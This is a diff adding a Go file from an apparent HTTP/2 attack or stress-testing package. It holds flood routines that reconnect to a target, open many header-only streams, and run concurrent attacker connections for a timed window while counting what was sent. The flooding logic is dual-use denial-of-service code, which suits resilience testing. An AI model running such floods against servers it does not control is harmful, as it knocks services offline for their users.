@@ -1,0 +1,93 @@
+package attack
+
+import (
+	"context"
+	"sync"
+	"time"
+)
+
+// mostTries is how often an attacker opens a connection again that the server has closed.
+const mostTries = 10
+
+// flood sends all units of a connection over HTTP/2: begin makes what the flood needs, send sends one unit. A connection that the
+// server closes is opened again.
+func flood(o h2options, begin func(*h2conn) error, send func(c *h2conn, i int) error) func(context.Context, *attacker) error {
+	return func(ctx context.Context, a *attacker) error {
+		sent := 0
+		for try := 0; try < mostTries && sent < a.units && ctx.Err() == nil; try++ {
+			c, err := a.dialHTTP2(ctx, o)
+			if err != nil {
+				return err
+			}
+			if begin != nil {
+				if err := begin(c); err != nil {
+					continue
+				}
+			}
+			for sent < a.units && ctx.Err() == nil && (sent%16 != 0 || !c.ended()) {
+				if err := send(c, sent); err != nil {
+					break
+				}
+				sent++
+				a.tally.sent.Add(1)
+			}
+			_ = c.confirm() // what failed shows in what became of the connection
+		}
+		return nil
+	}
+}
+
+// ask is a unit of a flood: one request without a body.
+func ask(block []byte) func(*h2conn, int) error {
+	return func(c *h2conn, _ int) error {
+		_, err := c.headers(block, true)
+		return err
+	}
+}
+
+// hold opens many streams at the beginning of a flood.
+func hold(streams int, block []byte) func(*h2conn) error {
+	return func(c *h2conn) error {
+		for range streams {
+			if _, err := c.headers(block, true); err != nil {
+				return err
+			}
+		}
+		return c.flush()
+	}
+}
+
+// conduct runs the script on all connections of an attack until its time is over, and closes them then.
+func conduct(ctx context.Context, row Attack, target *Target) *tally {
+	ctx, cancel := context.WithTimeout(ctx, row.window())
+	defer cancel()
+	until, _ := ctx.Deadline()
+	t, opened := newTally(), &links{}
+	var all sync.WaitGroup
+	for i := range row.Connections {
+		all.Go(func() {
+			a := &attacker{Target: target, number: i, units: row.each(), until: until, tally: t, opened: opened}
+			_ = row.script(ctx, a) // a connection that failed is counted
+		})
+	}
+	<-ctx.Done()
+	all.Wait()
+	opened.finish(t)
+	return t
+}
+
+// every calls do again and again, with a pause between, until the attack is over or do fails.
+func every(ctx context.Context, pause time.Duration, do func(i int) error) error {
+	ticks := time.NewTicker(pause)
+	defer ticks.Stop()
+	for i := 0; ; i++ {
+		if err := do(i); err != nil {
+			return err
+		}
+		select {
+		case <-ctx.Done():
+			return nil
+		case <-ticks.C:
+		}
+	}
+}
